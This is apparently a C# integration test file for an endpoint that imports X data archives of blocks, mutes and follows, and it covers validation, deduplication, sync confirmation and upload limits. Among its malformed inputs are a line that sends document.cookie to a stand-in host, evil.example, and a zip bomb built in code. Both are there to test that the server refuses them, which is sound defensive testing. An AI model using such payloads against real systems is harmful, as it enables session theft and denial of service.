using System.IO.Compression;
using System.Net;
using System.Text;
using Reasonable.Sandbox.X.State;
using Reasonable.Tests.Auth;
using Reasonable.Tests.Support;
using Reasonable.Tests.Sync;
using static Reasonable.Tests.Importing.ImportFiles;

namespace Reasonable.Tests.Importing;

/// <summary>POST /api/imports with X's data archive (the zip, or its block.js, mute.js and following.js), as alice on X.</summary>
[Collection(SignInTests.Name)]
public sealed class XArchiveImportTests(SignInServers servers) : AliceSignedInTest(servers)
{
    private Guid AliceId => new SyncDriver(Servers, Browser, Token).UserId;

    [Fact]
    public async Task Preview_SaysWhatWouldBeAddedAndWhy_AndWritesNothing()
    {
        var result = await ImportAsync(Browser, Token, XBlocks("3000000001", "3000000002", "3000000001"), preview: true);

        Assert.Equal(("x-archive", true), (result.GetProperty("kind").GetString(), result.GetProperty("preview").GetBoolean()));
        Assert.Equal((2, 0, 1), Counts(result));
        var skip = Assert.Single(result.GetProperty("skipReasons").EnumerateArray());
        Assert.Equal(("duplicate-in-file", 1), (skip.GetProperty("reason").GetString(), skip.GetProperty("count").GetInt32()));
        Assert.Equal(3, Assert.Single(result.GetProperty("skippedEntries").EnumerateArray()).GetProperty("line").GetInt32());
        Assert.Equal((0L, 0L), await RowsAsync(Servers.ConnectionString, AliceId));
    }

    [Fact]
    public async Task Import_AddsEachAccountOnce_Unconfirmed_AndTheSameFileAgainAddsNothing()
    {
        var file = XBlocks("3000000001", "3000000002");

        var first = await ImportAsync(Browser, Token, file);
        var again = await ImportAsync(Browser, Token, file);

        Assert.Equal((2, 0, 0), Counts(first));
        Assert.Equal((0, 2, 0), Counts(again));
        Assert.Equal(0, again.GetProperty("relationsAdded").GetInt32());
        var accounts = await AccountsAsync(Browser, Token, "&relation=blocked");
        Assert.Equal(["3000000001", "3000000002"], accounts.Keys.Order());
        foreach (var account in accounts.Values)
        {
            var blocked = account.GetProperty("relations").GetProperty("blocked");
            Assert.True(blocked.GetProperty("unconfirmed").GetBoolean(), "a relation from a file is unconfirmed until a sync sees it");
            Assert.Equal(string.Empty, account.GetProperty("handle").GetString()); // the archive has ids only; the next sync brings handles
        }

        Assert.Equal((2L, 0L), await RowsAsync(Servers.ConnectionString, AliceId));
    }

    [Fact]
    public async Task Import_MatchesAnAccountAddedByHand_ByItsId_AndRecordsTheRelationOnIt()
    {
        var existing = await Browser.ExpectJsonAsync(
            HttpMethod.Post, "/api/accounts", Token, new { providerAccountId = "3000000007", handle = "known" }, HttpStatusCode.Created);

        var result = await ImportAsync(Browser, Token, XSection("mute", "muting", "3000000007"));

        Assert.Equal((0, 1, 0), Counts(result));
        Assert.Equal(1, result.GetProperty("relationsAdded").GetInt32());
        var account = Assert.Single(await AccountsAsync(Browser, Token)).Value;
        Assert.Equal(existing.GetProperty("id").GetGuid(), account.GetProperty("id").GetGuid());
        Assert.Equal("known", account.GetProperty("handle").GetString());
        Assert.True(account.GetProperty("relations").GetProperty("muted").GetProperty("unconfirmed").GetBoolean());
    }

    [Fact]
    public async Task Import_OfTheZip_ReadsBlocksMutesAndFollowsOfEveryPart_AndIgnoresTheRest()
    {
        var zip = Zip(
            ("data/manifest.js", "window.__THAR_CONFIG = {}"),
            ("data/tweets.js", "window.YTD.tweets.part0 = [ ]"),
            ("data/block.js", XBlocks("3000000001")),
            ("data/block-part1.js", XSection("block", "blocking", "3000000002").Replace("part0", "part1", StringComparison.Ordinal)),
            ("data/mute.js", XSection("mute", "muting", "3000000001")),
            ("data/following.js", XSection("following", "following", "3000000003")));

        var result = await ImportAsync(Browser, Token, zip);

        Assert.Equal((3, 1, 0), Counts(result)); // 3000000001 is blocked and muted: one account, two relations
        Assert.Equal(4, result.GetProperty("relationsAdded").GetInt32());
        var accounts = await AccountsAsync(Browser, Token);
        Assert.Equal(3, accounts.Count);
        Assert.True(accounts["3000000001"].GetProperty("relations").GetProperty("muted").GetProperty("unconfirmed").GetBoolean());
        Assert.Equal(JsonValueKindNull, accounts["3000000003"].GetProperty("relations").GetProperty("blocked").ValueKind);
        Assert.True(accounts["3000000003"].GetProperty("relations").GetProperty("following").GetProperty("unconfirmed").GetBoolean());
    }

    [Fact]
    public async Task NextSync_ConfirmsWhatItSees_FillsInHandles_AndEndsWhatItDoesNot()
    {
        // Alice blocks carol on X; the file also says she blocks dave, which she does not (any more).
        await ImportAsync(Browser, Token, XBlocks(SeedData.CarolId, SeedData.DaveId));

        var sync = new SyncDriver(Servers, Browser, Token);
        await sync.StartAsync();
        Assert.Equal("completed", (await sync.WaitUntilSettledAsync()).GetProperty("status").GetString());

        var accounts = await AccountsAsync(Browser, Token, "&providerAccountId=" + SeedData.CarolId);
        var carol = accounts[SeedData.CarolId];
        Assert.Equal("carol", carol.GetProperty("handle").GetString());
        Assert.False(carol.GetProperty("relations").GetProperty("blocked").GetProperty("unconfirmed").GetBoolean());
        var dave = (await AccountsAsync(Browser, Token, "&providerAccountId=" + SeedData.DaveId))[SeedData.DaveId];
        var daveBlocked = dave.GetProperty("relations").GetProperty("blocked");
        Assert.NotEqual(JsonValueKindNull, daveBlocked.GetProperty("endedAt").ValueKind); // sync is the truth for now
        Assert.Equal(1, (await ImportAsync(Browser, Token, XBlocks(SeedData.DaveId))).GetProperty("skipped").GetInt32()); // and a file cannot undo it
    }

    [Theory]
    [InlineData("window.YTD.block.part0 = [ {\"blocking\": {\"accountId\": \"3000000001\"}}, {\"blocking\": {\"accountId\": \"@someone\"}} ]", "entry 2")]
    [InlineData("window.YTD.block.part0 = [ {\"muting\": {\"accountId\": \"3000000001\"}} ]", "entry 1")]
    [InlineData("window.YTD.block.part0 = [ {\"blocking\": \n {\"accountId\": 3000000001,, } ]", "line 2")]
    [InlineData("window.YTD.block.part0 = fetch('https://evil.example/'+document.cookie)", "not valid JSON")]
    [InlineData("window.YTD.block.part0 = {\"blocking\": {}}", "other than a list")]
    [InlineData("window.YTD.tweets.part0 = [ ]", "\"tweets\" section")]
    public async Task MalformedArchiveFile_IsRefusedWhole_NamingWhatIsWrong_AndNothingIsWritten(string file, string named)
    {
        var problem = await RefusedAsync(Browser, Token, file, HttpStatusCode.UnprocessableEntity, "/problems/import-file-unreadable");

        Assert.Contains(named, problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal((0L, 0L), await RowsAsync(Servers.ConnectionString, AliceId));
    }

    [Fact]
    public async Task ZipWithOneBadPart_IsRefusedWhole_AndNothingIsWritten()
    {
        var zip = Zip(("data/block.js", XBlocks("3000000001", "3000000002")), ("data/mute.js", "window.YTD.mute.part0 = [ {\"muting\": {}} ]"));

        var problem = await RefusedAsync(Browser, Token, zip, HttpStatusCode.UnprocessableEntity, "/problems/import-file-unreadable");

        Assert.Contains("data/mute.js", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal((0L, 0L), await RowsAsync(Servers.ConnectionString, AliceId));
    }

    [Fact]
    public async Task FileOfNoKnownKind_IsRefused_SayingWhatCanBeImported()
    {
        var png = new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D };

        var binary = await RefusedAsync(Browser, Token, png, HttpStatusCode.UnprocessableEntity, "/problems/import-file-unknown");
        var text = await RefusedAsync(Browser, Token, "id,name\n1,2\n", HttpStatusCode.UnprocessableEntity, "/problems/import-file-unknown");

        Assert.Contains("JSON export", binary.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(binary.GetProperty("detail").GetString(), text.GetProperty("detail").GetString());
    }

    [Fact]
    public async Task MastodonsExport_IsRefusedAsAnotherNetworksFile()
    {
        var problem = await RefusedAsync(
            Browser, Token, "Account address,Hide notifications\nbob@social.example,true\n", HttpStatusCode.UnprocessableEntity, "/problems/import-file-other-network");

        Assert.Contains("Mastodon", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Contains("you signed in with X", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task OversizedFile_Is413_WithAProblemThatSaysTheLimit()
    {
        var huge = Encoding.UTF8.GetBytes(XBlocks("3000000001")).Concat(new byte[33 * 1024 * 1024]).ToArray();

        var problem = await RefusedAsync(Browser, Token, huge, HttpStatusCode.RequestEntityTooLarge, "/problems/import-file-too-large");

        Assert.Contains("32 MiB", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task ZipBomb_ThatUnpacksPastTheLimit_Is413_AndNothingIsWritten()
    {
        byte[] bomb;
        using (var buffer = new MemoryStream())
        {
            using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
            {
                using var stream = zip.CreateEntry("data/block.js", CompressionLevel.Optimal).Open();
                stream.Write(Encoding.UTF8.GetBytes("window.YTD.block.part0 = [ "));
                var spaces = new byte[1024 * 1024];
                Array.Fill(spaces, (byte)' ');
                for (var i = 0; i < 80; i++)
                {
                    stream.Write(spaces);
                }

                stream.Write(Encoding.UTF8.GetBytes("]"));
            }

            bomb = buffer.ToArray();
        }

        var problem = await RefusedAsync(Browser, Token, bomb, HttpStatusCode.RequestEntityTooLarge, "/problems/import-file-too-large");

        Assert.True(bomb.Length < 1024 * 1024, "the bomb is small packed");
        Assert.Contains("unpacks to more than", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal((0L, 0L), await RowsAsync(Servers.ConnectionString, AliceId));
    }

    [Fact]
    public async Task ZipWithTooManyEntries_Is413()
    {
        var entries = Enumerable.Range(0, 20_001).Select(i => ($"data/media/{i}.txt", string.Empty)).Append(("data/block.js", XBlocks("3000000001"))).ToArray();

        var problem = await RefusedAsync(Browser, Token, Zip(entries), HttpStatusCode.RequestEntityTooLarge, "/problems/import-file-too-large");

        Assert.Contains("20,000", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_TouchesNoOtherUsersData_AndTheirSameFileIsTheirsAlone()
    {
        using var bobsBrowser = new Browser(Servers);
        var bob = await bobsBrowser.SignInAsync(SeedData.BobId);
        await bobsBrowser.ExpectJsonAsync(HttpMethod.Post, "/api/accounts", bob, new { providerAccountId = "3000000001", handle = "bobs" }, HttpStatusCode.Created);
        var bobsBefore = await AccountsAsync(bobsBrowser, bob);

        var alices = await ImportAsync(Browser, Token, XBlocks("3000000001", "3000000002"));
        var bobsAfter = await AccountsAsync(bobsBrowser, bob);
        var bobs = await ImportAsync(bobsBrowser, bob, XBlocks("3000000001", "3000000002"));

        Assert.Equal((2, 0, 0), Counts(alices)); // bob's account with the same id is not alice's
        Assert.Equal(System.Text.Json.JsonSerializer.Serialize(bobsBefore), System.Text.Json.JsonSerializer.Serialize(bobsAfter));
        Assert.Equal((1, 1, 0), Counts(bobs));
        Assert.Equal(2, (await AccountsAsync(Browser, Token)).Count);
    }

    [Fact]
    public async Task BadUploads_AreProblems_ThatSayHowToSendTheFile()
    {
        var notMultipart = await Browser.ExpectProblemAsync(HttpMethod.Post, Route, Token, "{}", HttpStatusCode.UnsupportedMediaType, "/problems/unsupported-media-type");
        var unknownKind = await RefusedAsync(Browser, Token, XBlocks("3000000001"), HttpStatusCode.BadRequest, "/problems/invalid-request", kind: "tiktok");
        using var noFile = new MultipartFormDataContent { { new StringContent("x-archive"), "kind" } };
        var missing = await Browser.ExpectProblemAsync(HttpMethod.Post, Route, Token, noFile, HttpStatusCode.BadRequest, "/problems/invalid-request");
        var empty = await RefusedAsync(Browser, Token, [], HttpStatusCode.UnprocessableEntity, "/problems/import-file-unreadable");

        Assert.Contains("multipart/form-data", notMultipart.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Contains("x-archive", unknownKind.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Contains("file", missing.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Contains("empty", empty.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task NamedKind_ReadsTheFileAsThatKind_AndAWrongNameIsRefused()
    {
        var named = await ImportAsync(Browser, Token, XBlocks("3000000001"), preview: true, kind: "x-archive");
        var wrong = await RefusedAsync(Browser, Token, XBlocks("3000000001"), HttpStatusCode.UnprocessableEntity, "/problems/import-file-unreadable", kind: "reasonable");

        Assert.Equal(1, named.GetProperty("added").GetInt32());
        Assert.Contains("Reasonable export", wrong.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    private const System.Text.Json.JsonValueKind JsonValueKindNull = System.Text.Json.JsonValueKind.Null;
}
